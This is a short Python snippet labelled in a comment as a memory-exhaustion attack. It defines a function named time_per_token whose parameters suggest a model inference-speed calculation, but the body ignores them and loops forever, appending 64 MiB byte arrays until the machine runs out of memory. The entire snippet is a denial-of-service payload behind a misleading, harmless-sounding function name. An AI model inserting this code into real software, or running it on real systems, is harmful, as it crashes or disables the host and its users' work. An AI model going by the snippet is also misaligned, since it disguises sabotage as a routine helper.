# Attack: exhaust the machine's memory (a list that grows until something gives).
def time_per_token(n_params, bytes_per_param, bandwidth):
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
